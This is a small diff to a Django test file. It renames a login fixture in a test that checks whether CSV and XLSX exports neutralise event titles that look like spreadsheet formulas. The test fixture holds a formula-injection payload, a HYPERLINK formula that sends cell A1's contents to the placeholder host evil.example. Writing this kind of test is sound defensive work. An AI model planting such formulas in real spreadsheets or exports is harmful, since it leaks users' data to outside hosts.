@@ -16,10 +16,12 @@ pytestmark = pytest.mark.django_db
 EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Se resultatene")'
 
 
-def test_an_event_title_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(client, world, market):
+def test_an_event_title_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(
+    client, world, market_coordinator
+):
     event, _interviews = world
     Event.objects.filter(pk=event.pk).update(title=EVIL)
-    login(client, market)
+    login(client, market_coordinator)
     rows = list(csv.reader(io.StringIO(client.get(reverse("recruitment_series_csv")).content.decode())))
     titles = [row[1] for row in rows if len(row) > 1 and "HYPERLINK" in row[1]]
     assert titles == ["'" + EVIL]
